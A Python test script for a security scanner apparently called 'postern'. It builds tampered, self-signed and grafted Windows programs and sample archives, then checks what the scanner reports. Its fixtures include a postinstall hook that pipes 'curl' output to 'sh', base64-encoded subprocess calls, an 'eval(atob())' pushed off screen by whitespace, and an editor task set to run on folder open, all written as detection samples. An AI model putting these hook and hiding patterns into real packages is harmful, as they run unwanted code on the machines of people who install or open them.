#!/usr/bin/env python3
"""postern inspect on programs, installers and packages of code: signatures against osslsigncode, products against their makers, pairs in one archive, hooks of packages.

usage: inspect_programs.py POSTERN
"""
import base64
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "lure"))
import programs

failures = []


def expect(ok, text):
    if not ok:
        failures.append(text)
        print("FAILED:", text)


def inspect(postern, *paths):
    p = subprocess.run([postern, "inspect", "--format", "json", *paths], capture_output=True, timeout=300)
    expect(p.returncode == 0, f"exit {p.returncode}: {p.stderr[-500:]}")
    return [json.loads(x) for x in p.stdout.splitlines()]


def cases(a):
    putty = programs.pe(ProductName="PuTTY suite", CompanyName="Simon Tatham", OriginalFilename="PuTTY")
    viewer = programs.pe(ProductName="Secure PDF Viewer", FileDescription="Viewer")
    tool = programs.pe(ProductName="Lab tool", CompanyName="Some Lab")
    mine = programs.pe(True, ProductName="Part")
    good = a.sign(putty, "Simon Tatham")
    broken = bytearray(good)
    broken[0x300] ^= 1
    moved = bytearray(a.sign(tool, "Some Lab"))
    other = a.sign(programs.pe(ProductName="Another tool entirely, of another size"), "Some Lab")
    at = int.from_bytes(moved[64 + 24 + 112 + 32:64 + 24 + 112 + 36], "little")
    grafted = bytes(moved[:at]) + other[int.from_bytes(other[64 + 24 + 112 + 32:64 + 24 + 112 + 36], "little"):]
    return {
        "tool.exe": (tool, {"PROGRAM", "PROGRAM_UNSIGNED"}, {"PRODUCT_NOT_ITS_MAKER", "SIGNATURE_BROKEN"}),
        "signed.exe": (a.sign(tool, "Some Lab"), {"PROGRAM"}, {"PROGRAM_UNSIGNED", "SIGNATURE_BROKEN", "PROGRAM_SELF_SIGNED", "BROKEN"}),
        "self.exe": (a.sign(tool), {"PROGRAM_SELF_SIGNED"}, {"SIGNATURE_BROKEN"}),
        "putty.exe": (putty, {"PRODUCT_NOT_ITS_MAKER"}, set()),
        "putty-good.exe": (good, {"PROGRAM"}, {"PRODUCT_NOT_ITS_MAKER", "SIGNATURE_BROKEN"}),
        "putty-other.exe": (a.sign(putty, "Some Lab"), {"PRODUCT_NOT_ITS_MAKER"}, {"SIGNATURE_BROKEN"}),
        "putty-self.exe": (a.sign(putty), {"PRODUCT_NOT_ITS_MAKER"}, set()),
        "putty-broken.exe": (bytes(broken), {"SIGNATURE_BROKEN", "PRODUCT_NOT_ITS_MAKER"}, set()),
        "grafted.exe": (grafted, {"SIGNATURE_BROKEN"}, set()),
        "viewer.zip": ({"Offer.pdf": b"%PDF-1.4\n%%EOF\n", "SecurePDFViewer.exe": viewer}, {"VIEWER_WITH_DOCUMENT"}, set()),
        "paper.zip": ({"Paper.pdf": b"%PDF-1.4\n%%EOF\n", "data/tool.exe": tool}, {"ARCHIVE_PROGRAM"}, {"VIEWER_WITH_DOCUMENT", "SIDELOAD_PAIR"}),
        "pair.zip": ({"app/tool.exe": a.sign(tool, "Some Lab"), "app/version.dll": mine}, {"SIDELOAD_PAIR"}, set()),
        "apart.zip": ({"app/tool.exe": tool, "other/version.dll": mine, "app/part.dll": mine}, set(), {"SIDELOAD_PAIR"}),
        "npm.zip": ({"package.json": b'{"name":"x","scripts":{"test":"jest","prepare":"husky install"}}', "index.js": b"module.exports = 1\n"}, {"CODE_INSTALL_HOOK"}, {"CODE_HOOK_FETCHES", "CODE_OFF_SCREEN"}),
        "plain-npm.zip": ({"package.json": b'{"name":"x","scripts":{"test":"jest","build":"tsc"}}'}, set(), {"CODE_INSTALL_HOOK"}),
        "npm-fetch.zip": ({"package.json": b'{"name":"x","scripts":{"postinstall":"curl -s http://example.org/a | sh"}}'}, {"CODE_HOOK_FETCHES"}, set()),
        "setup.zip": ({"t/setup.py": b"import base64, subprocess\nsubprocess.run(base64.b64decode('" + base64.b64encode(b"echo harmless") + b"'))\n"}, {"CODE_HOOK_FETCHES"}, set()),
        "plain-setup.zip": ({"t/setup.py": b"from setuptools import setup\nsetup(name='x')\n"}, set(), {"CODE_INSTALL_HOOK", "CODE_HOOK_FETCHES"}),
        "editor.zip": ({"t/.vscode/tasks.json": b'{"tasks":[{"label":"x","command":"node x.js","runOptions":{"runOn":"folderOpen"}}]}'}, {"CODE_RUNS_WHEN_OPENED"}, set()),
        "plain-editor.zip": ({"t/.vscode/tasks.json": b'{"tasks":[{"label":"build","command":"make"}]}'}, set(), {"CODE_RUNS_WHEN_OPENED"}),
        "git.zip": ({"t/.git/hooks/post-checkout": b"#!/bin/sh\necho hello\n"}, {"CODE_RUNS_WHEN_OPENED"}, set()),
        "wide.zip": ({"t/app.js": b"const a = 1;" + b" " * 400 + b"eval(atob(b)) // far to the right\n"}, {"CODE_OFF_SCREEN"}, set()),
        "table.zip": ({"t/app.py": b"a = 1" + b" " * 40 + b"# a comment in its column\n"}, set(), {"CODE_OFF_SCREEN"}),
        "registry.zip": ({"t/.npmrc": b"registry=https://packages.example.org/\n"}, {"CODE_OTHER_REGISTRY"}, set()),
        "usual.zip": ({"t/.npmrc": b"registry=https://registry.npmjs.org/\n"}, set(), {"CODE_OTHER_REGISTRY"}),
        "linux.bin": (b"\x7fELF" + bytes(60), {"PROGRAM"}, set()),
    }


def write(path, content):
    if isinstance(content, dict):
        with zipfile.ZipFile(path, "w") as z:
            for name, c in content.items():
                z.writestr(name, c)
    else:
        open(path, "wb").write(content)


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__.strip())
    missing = [x for x in ("openssl", "osslsigncode") if not shutil.which(x)]
    if missing:
        print(f"missing: {', '.join(missing)}; script/deps test installs them")
        sys.exit(77)
    with tempfile.TemporaryDirectory(prefix="postern-programs-") as d:
        table = cases(programs.Authority(f"{d}/authority"))
        os.makedirs(f"{d}/whole")
        for name, (content, _, _) in table.items():
            write(f"{d}/whole/{name}", content)
        rows = {os.path.basename(r["path"]): r for r in inspect(sys.argv[1], f"{d}/whole")}
        for name, (_, wanted, unwanted) in table.items():
            ids = {f["id"] for f in rows[name]["findings"]}
            expect(wanted <= ids, f"{name}: lacks {wanted - ids}, has {ids}")
            expect(not unwanted & ids, f"{name}: has {unwanted & ids}")
        facts = {f["name"]: f["value"] for f in rows["putty-good.exe"]["objects"][0]["facts"]}
        expect(facts["signer"] == "Simon Tatham" and facts["issuer"] == "Test Root" and facts["product"] == "PuTTY suite" and facts["signature"].startswith("fits"), f"facts {facts}")
        rng, n = random.Random(5), 0
        os.makedirs(f"{d}/damaged")
        for name in ("putty-good.exe", "tool.exe", "viewer.zip"):
            content = open(f"{d}/whole/{name}", "rb").read()
            for cut in {len(content) * i // 100 for i in range(100)}:
                open(f"{d}/damaged/{n}-{name}", "wb").write(content[:cut])
                n += 1
            for _ in range(60):
                b = bytearray(content)
                for _ in range(4):
                    b[rng.randrange(len(b))] = rng.randrange(256)
                open(f"{d}/damaged/{n}-{name}", "wb").write(b)
                n += 1
        damaged = inspect(sys.argv[1], f"{d}/damaged")
        expect(len(damaged) == n and not any(f["id"] == "INSPECT_CRASH" for r in damaged for f in r["findings"]), "damaged programs: a crash, or rows are missing")
        print(f"{len(table)} files, {n} damaged ones: {'FAILED' if failures else 'ok'}")
    sys.exit(1 if failures else 0)


main()
